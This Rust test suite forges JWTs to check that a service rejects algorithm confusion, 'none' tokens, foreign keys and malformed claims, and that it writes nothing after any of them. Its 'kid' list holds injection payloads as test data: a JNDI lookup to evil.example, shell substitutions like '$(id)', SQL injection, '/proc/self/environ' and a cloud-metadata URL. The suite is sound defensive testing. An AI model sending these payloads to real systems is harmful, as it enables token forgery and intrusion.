//! Attacks on tokens, by the list of RFC 8725 and beyond what `hostile_tokens.rs` holds: each is refused with exactly one status and
//! code, on a route that reads and on one that writes, and nothing is written.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey, Header, get_current_timestamp};
use serde_json::{Value, json};
use shared::auth::keys::SigningKey;
use shared::auth::token;
use shared::clock::Time;
use shared::config::SecretSource;
use shared::secret::Secret;

use crate::faults::hostile::proper;
use crate::faults::hostile_tokens::{opened, signed, signing_key, unsigned, with};
use crate::support::harness::{Person, World};

const BASE64URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// A genuine token, opened, with our key and a stranger's.
struct Forge {
    header: Value,
    claims: Value,
    key: SigningKey,
    stranger: SigningKey,
    now: i64,
}

impl Forge {
    fn of(world: &World, person: &Person<'_>) -> Self {
        let (header, claims) = opened(person.access.as_ref().unwrap());
        Self {
            header,
            claims,
            key: signing_key(world),
            stranger: SigningKey::from_seed(&Secret::new("a stranger's seed")).unwrap(),
            now: world.clock.now().as_seconds(),
        }
    }

    /// Signed by us, with another header: what only a fault of the verifier could turn against us.
    fn header(&self, change: Value) -> String {
        let header = with(&self.header, change);
        signed(&header, &self.claims, self.key.encoding_key(), Algorithm::EdDSA)
    }

    /// Signed by us, with other claims.
    fn claims(&self, change: Value) -> String {
        let claims = with(&self.claims, change);
        signed(&self.header, &claims, self.key.encoding_key(), Algorithm::EdDSA)
    }

    /// Signed by a stranger, with another header.
    fn by_stranger(&self, change: Value) -> String {
        let header = with(&self.header, change);
        signed(&header, &self.claims, self.stranger.encoding_key(), Algorithm::EdDSA)
    }

    /// The stranger's public key, as they would send it along.
    fn stranger_jwk(&self) -> Value {
        let set: Value = serde_json::from_str(&shared::auth::keys::jwks(&[self.stranger_again()]).unwrap()).unwrap();
        set["keys"][0].clone()
    }

    fn stranger_again(&self) -> SigningKey {
        let again = SigningKey::from_seed(&Secret::new("a stranger's seed")).unwrap();
        assert_eq!(again.kid(), self.stranger.kid());
        again
    }

    /// Signed by us over texts that are taken as they are.
    fn raw(&self, header: &[u8], claims: &[u8]) -> String {
        self.over(&format!(
            "{}.{}",
            URL_SAFE_NO_PAD.encode(header),
            URL_SAFE_NO_PAD.encode(claims)
        ))
    }

    /// A message with our signature over it.
    fn over(&self, message: &str) -> String {
        let key = self.key.encoding_key();
        let signature = jsonwebtoken::crypto::sign(message.as_bytes(), key, Algorithm::EdDSA).unwrap();
        format!("{message}.{signature}")
    }

    /// The claims as text with `member` before all others, so that one of them is there twice.
    fn twice(&self, member: &str) -> String {
        let claims = self.claims.to_string();
        self.raw(
            self.header.to_string().as_bytes(),
            format!("{{{member},{}", &claims[1..]).as_bytes(),
        )
    }
}

/// RFC 8725 §2.1, §3.1, §3.2: whoever sends a token does not choose how it is verified.
fn algorithms(forge: &Forge, jwks: &Value) -> Vec<(String, String)> {
    let public = URL_SAFE_NO_PAD.decode(jwks["keys"][0]["x"].as_str().unwrap()).unwrap();
    let der = [
        &[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00][..],
        &public,
    ]
    .concat();
    let body = base64::engine::general_purpose::STANDARD.encode(&der);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n");
    let mut rows = Vec::new();
    let hmacs = [
        ("HS256", Algorithm::HS256),
        ("HS384", Algorithm::HS384),
        ("HS512", Algorithm::HS512),
    ];
    let jwk = jwks["keys"][0].to_string();
    for (name, algorithm) in hmacs {
        for (form, secret) in [
            ("raw", public.as_slice()),
            ("DER", &der),
            ("PEM", pem.as_bytes()),
            ("PEM without its last line break", pem.trim_end().as_bytes()),
            ("JWK", jwk.as_bytes()),
            ("kid", forge.key.kid().as_bytes()),
        ] {
            let header = with(&forge.header, json!({"alg": name}));
            let token = signed(&header, &forge.claims, &EncodingKey::from_secret(secret), algorithm);
            rows.push((format!("{name} with our public key ({form})"), token));
            // The header of EdDSA over the tag of HMAC.
            let token = signed(
                &forge.header,
                &forge.claims,
                &EncodingKey::from_secret(secret),
                algorithm,
            );
            rows.push((format!("EdDSA over {name} with our public key ({form})"), token));
        }
    }
    for name in ["none", "None", "nOnE", "NONE", "", " none", "none\u{0}"] {
        let header = with(&forge.header, json!({"alg": name}));
        for kid in [json!(forge.key.kid()), Value::Null] {
            let message = unsigned(&with(&header, json!({"kid": kid})), &forge.claims);
            rows.push((format!("alg {name:?}, no signature"), format!("{message}.")));
            rows.push((format!("alg {name:?}, our signature"), forge.over(&message)));
        }
    }
    for name in [
        "eddsa", "EDDSA", "Ed25519", "Ed448", "ES256", "ES384", "RS256", "PS256", "HS256", "ECDH-ES", "dir",
    ] {
        rows.push((format!("alg {name} over EdDSA"), forge.header(json!({"alg": name}))));
    }
    for other in [json!(["EdDSA"]), json!({}), json!(0), json!(true)] {
        rows.push((format!("alg {other}"), forge.header(json!({"alg": other}))));
    }
    rows
}

/// RFC 8725 §3.5, §3.10: a `kid` only picks among our keys; what else a header brings along is never fetched or believed.
fn headers(forge: &Forge) -> Vec<(String, String)> {
    let mut rows = Vec::new();
    let long = "k".repeat(2000);
    let ours = forge.key.kid();
    for kid in [
        "",
        " ",
        "KEYS",
        "JWKS",
        "KEYS#JWKS",
        "USER#*",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///dev/null",
        "http://169.254.169.254/latest/meta-data",
        "' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "'; DROP TABLE keys; --",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
        "`id`",
        "|id",
        "{\"$ne\":null}",
        "*",
        "%00",
        "\u{0}",
        "\r\nx: y",
        "schlüssel",
        &long,
        &format!("{ours}\u{0}"),
        &format!(" {ours}"),
        &format!("{ours}/../{ours}"),
        &ours.to_lowercase(),
    ] {
        rows.push((format!("kid {kid:.40?}"), forge.header(json!({"kid": kid}))));
        // The content of /dev/null, the empty key.
        let header = with(&forge.header, json!({"kid": kid, "alg": "HS256"}));
        let token = signed(&header, &forge.claims, &EncodingKey::from_secret(b""), Algorithm::HS256);
        rows.push((format!("HS256 of nothing, kid {kid:.40?}"), token));
    }
    for kid in [json!([ours]), json!({"kid": ours}), json!(0), json!(true)] {
        rows.push((format!("kid {kid}"), forge.header(json!({"kid": kid}))));
    }
    let jwk = forge.stranger_jwk();
    let theirs = jwk["kid"].clone();
    for (name, value) in [
        ("jwk", jwk.clone()),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("http://127.0.0.1:9/.well-known/jwks.json")),
        ("x5u", json!("https://evil.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("dGh1bWI")),
        ("x5t#S256", json!("dGh1bWI")),
    ] {
        rows.push((
            format!("a stranger's, {name} {value:.40}, our kid"),
            forge.by_stranger(json!({name: value})),
        ));
        let with_kid = forge.by_stranger(json!({name: value, "kid": theirs}));
        rows.push((format!("a stranger's, {name}, their kid"), with_kid));
        let without = forge.by_stranger(json!({name: value, "kid": null}));
        rows.push((format!("a stranger's, {name}, no kid"), without));
        // No token of ours says where its key is.
        rows.push((format!("ours, {name}"), forge.header(json!({name: value}))));
    }
    for (name, value) in [
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("crit", json!(["unknown"])),
        ("crit", json!("exp")),
        ("typ", json!("JWT")),
        ("typ", json!("at+jwt ")),
        ("typ", json!("rt+jwt")),
        ("typ", json!("id+jwt")),
        ("typ", json!("secevent+jwt")),
        ("typ", json!("")),
        ("typ", json!(["at+jwt"])),
    ] {
        rows.push((format!("{name} {value}"), forge.header(json!({name: value}))));
    }
    let b64 = forge.header(json!({"b64": false, "crit": ["b64"]}));
    rows.push(("an unencoded payload (RFC 7797)".into(), b64));
    let header = forge.header.to_string();
    for (name, twice) in [
        ("alg", r#""alg":"none""#.to_owned()),
        ("kid", format!(r#""kid":{theirs}"#)),
        ("typ", r#""typ":"JWT""#.to_owned()),
    ] {
        let header = format!("{{{twice},{}", &header[1..]);
        rows.push((
            format!("{name} twice"),
            forge.raw(header.as_bytes(), forge.claims.to_string().as_bytes()),
        ));
    }
    rows
}

/// RFC 8725 §3.8–3.12, and CVE-2026-25537: claims of the wrong kind are no claims.
#[expect(clippy::too_many_lines, reason = "a table: one row an attack")]
fn claims(forge: &Forge) -> Vec<(String, String)> {
    let now = forge.now;
    let mut rows = Vec::new();
    let changes = [
        ("exp", json!(f64::from(i32::MAX) + 0.5)),
        ("exp", json!(4e9)),
        ("exp", json!(u64::MAX)),
        ("exp", json!(-1)),
        ("exp", json!(i64::MIN)),
        ("exp", json!(true)),
        ("exp", json!([now + 900])),
        ("exp", json!({"at": now + 900})),
        ("exp", json!((now + 900).to_string())),
        ("exp", json!("")),
        ("exp", json!("never")),
        ("nbf", Value::Null),
        ("nbf", json!(-1)),
        ("nbf", json!(i64::MIN)),
        ("nbf", json!(0.5)),
        ("nbf", json!(i64::MAX)),
        ("nbf", json!(u64::MAX)),
        ("nbf", json!(1e300)),
        ("nbf", json!(now.to_string())),
        ("nbf", json!(false)),
        ("nbf", json!([0])),
        ("iat", Value::Null),
        ("iat", json!(i64::MAX)),
        ("iat", json!("0")),
        ("iat", json!(1.5)),
        ("iss", json!([forge.claims["iss"]])),
        ("iss", json!(format!("{}/", forge.claims["iss"].as_str().unwrap()))),
        ("iss", json!(forge.claims["iss"].as_str().unwrap().to_uppercase())),
        ("iss", json!("")),
        ("iss", json!(0)),
        ("aud", json!([forge.claims["aud"]])),
        ("aud", json!([forge.claims["aud"], "https://evil.example"])),
        ("aud", json!([])),
        ("aud", json!(format!("{}/admin", forge.claims["aud"].as_str().unwrap()))),
        ("aud", json!("")),
        ("sub", json!("")),
        ("sub", json!([forge.claims["sub"]])),
        ("sub", json!("*")),
        ("sub", json!("../USER")),
        ("jti", Value::Null),
        ("jti", json!(1)),
        ("sid", Value::Null),
        ("sid", json!("none")),
        ("wid", json!("none")),
        ("wid", json!([])),
        ("uep", Value::Null),
        ("uep", json!(-1)),
        ("uep", json!(0.0)),
        ("uep", json!("0")),
        ("wep", Value::Null),
        ("wep", json!(-1)),
        ("wep", json!("0")),
    ];
    for (name, value) in changes {
        rows.push((format!("{name} {value}"), forge.claims(json!({name: value}))));
    }
    for member in [
        r#""exp":1"#,
        r#""exp":1e400"#,
        r#""exp":99999999999999999999999"#,
        r#""exp":NaN"#,
        r#""exp":Infinity"#,
        r#""nbf":0"#,
        r#""sub":"00000000-0000-7000-8000-000000000000""#,
        r#""iss":"https://evil.example""#,
        r#""aud":"another""#,
        r#""uep":1"#,
        r#""wid":null"#,
        r#""\u0073ub":"00000000-0000-7000-8000-000000000000""#,
    ] {
        rows.push((format!("{member} besides"), forge.twice(member)));
    }
    let header = forge.header.to_string();
    let whole = forge.claims.to_string();
    let mut latin = with(&forge.claims, json!({"jti": "?"})).to_string().into_bytes();
    for byte in &mut latin {
        if *byte == b'?' {
            *byte = 0xff;
        }
    }
    let bodies: [(&str, &[u8]); 12] = [
        ("nothing", b""),
        ("null", b"null"),
        ("a list", &[b"[", whole.as_bytes(), b"]"].concat()),
        ("a text", &serde_json::to_vec(&whole).unwrap()),
        ("a number", b"1"),
        ("no claims", b"{}"),
        ("half", &whole.as_bytes()[..whole.len() / 2]),
        ("garbage behind", &[whole.as_bytes(), b"x"].concat()),
        ("a second object behind", &[whole.as_bytes(), b"{}"].concat()),
        ("NUL behind", &[whole.as_bytes(), b"\0"].concat()),
        ("a BOM before", &[b"\xef\xbb\xbf", whole.as_bytes()].concat()),
        ("no UTF-8", &latin),
    ];
    for (name, body) in bodies {
        rows.push((format!("claims: {name}"), forge.raw(header.as_bytes(), body)));
    }
    rows
}

/// One token has one text: nothing else that decodes to the same is one.
fn texts(forge: &Forge, genuine: &str) -> Vec<(String, String)> {
    let parts: Vec<&str> = genuine.split('.').collect();
    let [header, claims, signature] = parts[..] else {
        panic!("{genuine}")
    };
    let (bytes, mut rows) = (|part: &str| URL_SAFE_NO_PAD.decode(part).unwrap(), Vec::new());
    // A signature with a character that the two alphabets write differently.
    let (message, plain) = (0..1000)
        .map(|number| forge.claims(json!({"number": number})))
        .map(|token| {
            token
                .rsplit_once('.')
                .map(|(message, sign)| (message.to_owned(), sign.to_owned()))
                .unwrap()
        })
        .find(|(_, signature)| signature.contains(['-', '_']))
        .unwrap();
    let standard = STANDARD_NO_PAD.encode(bytes(&plain));
    rows.push(("the standard alphabet", format!("{message}.{standard}")));
    rows.push((
        "a padded signature",
        format!("{header}.{claims}.{}", URL_SAFE.encode(bytes(signature))),
    ));
    // Over the padded text, too: it is what is signed.
    let odd = (0..1000).map(|number| with(&forge.claims, json!({"pad": "x".repeat(number)})).to_string());
    let odd = odd.into_iter().find(|text| text.len() % 3 != 0).unwrap();
    let padded = URL_SAFE.encode(&odd);
    assert!(padded.ends_with('='));
    rows.push(("padded claims", forge.over(&format!("{header}.{padded}"))));
    rows.push((
        "percent-encoded padding",
        forge.over(&format!("{header}.{}", padded.replace('=', "%3D"))),
    ));
    let last = BASE64URL
        .iter()
        .position(|c| Some(c) == signature.as_bytes().last())
        .unwrap();
    let mut loose = signature.to_owned();
    loose.pop();
    loose.push(char::from(BASE64URL[last | 1]));
    assert_ne!(loose, signature);
    rows.push(("bits beyond the signature", format!("{header}.{claims}.{loose}")));
    let longer = URL_SAFE_NO_PAD.encode([bytes(signature), vec![0]].concat());
    rows.push(("a byte behind the signature", format!("{header}.{claims}.{longer}")));
    let shorter = URL_SAFE_NO_PAD.encode(&bytes(signature)[..63]);
    rows.push(("a byte less of the signature", format!("{header}.{claims}.{shorter}")));
    rows.push((
        "a signature of zeros",
        format!("{header}.{claims}.{}", URL_SAFE_NO_PAD.encode([0; 64])),
    ));
    rows.push(("a point behind", format!("{genuine}.")));
    rows.push(("a point before", format!(".{genuine}")));
    rows.push(("a space inside", format!("{header}. {claims}.{signature}")));
    rows.push(("a comma behind", format!("{genuine},")));
    rows.push(("quotes around", format!("\"{genuine}\"")));
    rows.push(("itself again behind", format!("{genuine}{genuine}")));
    rows.push(("parts exchanged", format!("{claims}.{header}.{signature}")));
    rows.push(("five parts, as a JWE", format!("{genuine}.{claims}.{signature}")));
    let json_form = json!({"protected": header, "payload": claims, "signature": signature});
    rows.push(("the JSON form", json_form.to_string()));
    let nested = forge.over(&format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(with(&forge.header, json!({"cty": "JWT"})).to_string()),
        URL_SAFE_NO_PAD.encode(genuine)
    ));
    rows.push(("nested", nested));
    let long = (2400..2900).map(|number| forge.claims(json!({"x": "x".repeat(number)})));
    let long = long.into_iter().find(|token| token.len() > 4096).unwrap();
    rows.push(("just over 4,096 bytes", long));
    rows.push(("64 KB", format!("{genuine}{}", "A".repeat(64 * 1024))));
    rows.push(("10,000 points", ".".repeat(10_000)));
    rows.into_iter().map(|(name, token)| (name.to_owned(), token)).collect()
}

async fn refused_everywhere(ann: &Person<'_>, rows: Vec<(String, String)>, code: &str) {
    let world = ann.world;
    let table = world.dump().await;
    for (name, token) in rows {
        let mallory = Person {
            access: Some(token.clone()),
            ..ann.clone()
        };
        for answer in [
            mallory.workspace().await,
            mallory.patch("/workspaces/", json!({"name": "Taken over"})).await,
            mallory.invite("mallory@example.com", "owner").await,
        ] {
            assert_eq!(answer.status, 401, "{name}: {}", answer.text);
            assert_eq!(answer.body["error_code"], code, "{name}");
            proper(answer).refused(401, code);
        }
    }
    assert_eq!(world.dump().await, table);
    ann.workspace().await.expect(200);
}

#[tokio::test]
async fn every_attack_on_an_access_token_is_refused_and_writes_nothing() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let forge = Forge::of(&world, &ann);
    let jwks = ann.get("/.well-known/jwks.json").await.body;
    // The forge is good: with nothing wrong, its tokens are taken, whatever is far away.
    let (least, most) = (i64::MIN, i64::MAX);
    for token in [
        forge.claims(json!({})),
        forge.claims(json!({"exp": most})),
        forge.claims(json!({"nbf": 0, "iat": least})),
        forge.claims(json!({"jti": "x", "scope": "admin", "roles": ["owner"], "is_superuser": true})),
    ] {
        let ann = Person {
            access: Some(token),
            ..ann.clone()
        };
        let me = ann.get("/auth/me").await.expect(200);
        assert_eq!(
            (&me.body["is_superuser"], &me.body["id"]),
            (&json!(false), &json!(ann.id))
        );
    }
    let genuine = ann.access.clone().unwrap();
    let mut rows = algorithms(&forge, &jwks);
    rows.extend(headers(&forge));
    rows.extend(claims(&forge));
    rows.extend(texts(&forge, &genuine));
    assert!(rows.len() > 250, "{}", rows.len());
    refused_everywhere(&ann, rows, "TOKEN_INVALID").await;
}

#[tokio::test]
async fn a_token_of_another_environment_opens_nothing_here() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let here = &world.app.config;
    let (issuer, audience) = (here.token_issuer.clone(), here.token_audience.clone());
    let other_seed = World::with(|config| {
        config.signing_secret = Some(SecretSource::Value(Secret::new("the seed of another environment")));
    })
    .await;
    let other_issuer = World::with(|config| config.token_issuer = format!("{issuer}-dev")).await;
    let other_audience = World::with(|config| config.token_audience = format!("{audience}-dev")).await;
    let twin = World::new().await;
    let mut invalid = Vec::new();
    let table = world.dump().await;
    for (name, there) in [
        ("seed", &other_seed),
        ("issuer", &other_issuer),
        ("audience", &other_audience),
    ] {
        let stranger = there.owner("ann").await;
        let mut both = ann.clone();
        (both.access, both.refresh) = (stranger.access.clone(), stranger.refresh.clone());
        stranger.workspace().await.expect(200);
        invalid.push((format!("another {name}"), stranger.access.clone().unwrap()));
        both.refresh().await.refused(
            401,
            if name == "seed" {
                "TOKEN_INVALID"
            } else {
                "TOKEN_REVOKED"
            },
        );
    }
    assert_eq!(world.dump().await, table);
    refused_everywhere(&ann, invalid, "TOKEN_INVALID").await;
    // With seed and names alike, the account is still another one.
    let stranger = twin.owner("ann").await;
    let rows = vec![("a twin".to_owned(), stranger.access.clone().unwrap())];
    refused_everywhere(&ann, rows, "TOKEN_REVOKED").await;
}

#[tokio::test]
async fn what_only_looks_like_a_refresh_token_is_refused_and_ends_nothing() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let bob = world.owner("bob").await;
    let genuine = ann.refresh.clone();
    let bytes = URL_SAFE_NO_PAD.decode(&genuine).unwrap();
    let others = URL_SAFE_NO_PAD.decode(&bob.refresh).unwrap();
    let last = BASE64URL
        .iter()
        .position(|c| Some(c) == genuine.as_bytes().last())
        .unwrap();
    let mut loose = genuine.clone();
    loose.pop();
    loose.push(char::from(BASE64URL[last | 1]));
    assert_ne!(loose, genuine);
    let flipped = |at: usize| {
        let mut flipped = bytes.clone();
        flipped[at] ^= 1;
        URL_SAFE_NO_PAD.encode(flipped)
    };
    let hs256 = jsonwebtoken::encode(
        &Header::new(Algorithm::HS256),
        &json!({"sub": ann.id, "exp": get_current_timestamp() + 900}),
        &EncodingKey::from_secret(b""),
    );
    let table = world.dump().await;
    for (name, token) in [
        ("padded", URL_SAFE.encode(&bytes)),
        ("bits beyond the end", loose),
        ("a space before", format!(" {genuine}")),
        ("a line break behind", format!("{genuine}\n")),
        ("NUL behind", format!("{genuine}\u{0}")),
        ("itself twice", format!("{genuine}{genuine}")),
        ("Bearer before", format!("Bearer {genuine}")),
        ("another user", flipped(0)),
        ("another session", flipped(16)),
        ("another workspace", flipped(32)),
        ("another generation", flipped(55)),
        ("another tag", flipped(56)),
        ("another tag's end", flipped(bytes.len() - 1)),
        ("no tag", URL_SAFE_NO_PAD.encode(&bytes[..56])),
        ("half a tag", URL_SAFE_NO_PAD.encode(&bytes[..72])),
        ("a byte more", URL_SAFE_NO_PAD.encode([bytes.as_slice(), &[0]].concat())),
        (
            "somebody else's tag",
            URL_SAFE_NO_PAD.encode([&bytes[..56], &others[56..]].concat()),
        ),
        ("zeros", URL_SAFE_NO_PAD.encode(vec![0; bytes.len()])),
        ("a JWT", hs256.unwrap()),
        ("an access token", ann.access.clone().unwrap()),
        ("16 KB", "A".repeat(16 * 1024)),
        ("not ASCII", "ß".repeat(118)),
    ] {
        let answer = ann
            .signed_out()
            .post("/auth/refresh", json!({"refresh_token": token}))
            .await;
        assert_eq!(answer.status, 401, "{name}: {}", answer.text);
        proper(answer).refused(401, "TOKEN_INVALID");
    }
    for token in [
        json!([genuine]),
        json!({"token": genuine}),
        json!(1),
        Value::Null,
        json!(true),
    ] {
        let answer = ann
            .signed_out()
            .post("/auth/refresh", json!({"refresh_token": token}))
            .await;
        assert_eq!(proper(answer).invalid_fields(), ["body.refresh_token"]);
    }
    let as_access = vec![
        ("a refresh token".to_owned(), genuine.clone()),
        (
            "a refresh token in three parts".to_owned(),
            format!("{genuine}.{genuine}.{genuine}"),
        ),
    ];
    refused_everywhere(&ann, as_access, "TOKEN_INVALID").await;
    assert_eq!(world.dump().await, table);
    ann.refresh().await.expect(200);
}

/// The boundary to the second: five seconds of leeway on both sides, and not one more.
#[tokio::test]
async fn a_token_begins_and_ends_to_the_second() {
    let world = World::new().await;
    let ann = world.owner("ann").await;
    let forge = Forge::of(&world, &ann);
    let key = world.app.keys.key(forge.key.kid()).unwrap();
    let at = 2_000_000_000;
    let is_valid_at = |claim: &str, seconds: i64| {
        let claims = with(&forge.claims, json!({"exp": at + 900, "nbf": at, "iat": at}));
        let claims = with(&claims, json!({claim: at}));
        let token = signed(&forge.header, &claims, forge.key.encoding_key(), Algorithm::EdDSA);
        let of_second = |millis: i64| {
            let now = Time::from_millis((at + seconds) * 1000 + millis);
            token::verify(&world.app.parties, &token, &key, now).is_ok()
        };
        assert_eq!(of_second(0), of_second(999), "{claim} {seconds}");
        of_second(0)
    };
    for (claim, first, last) in [("nbf", -5, 900 + 4), ("iat", -5, 900 + 4)] {
        for (seconds, valid) in [(first - 1, false), (first, true), (last, true), (last + 1, false)] {
            assert_eq!(is_valid_at(claim, seconds), valid, "{claim}, {seconds} s");
        }
    }
    for (seconds, valid) in [(-5, true), (4, true), (5, false), (6, false)] {
        assert_eq!(is_valid_at("exp", seconds), valid, "exp, {seconds} s");
    }
}
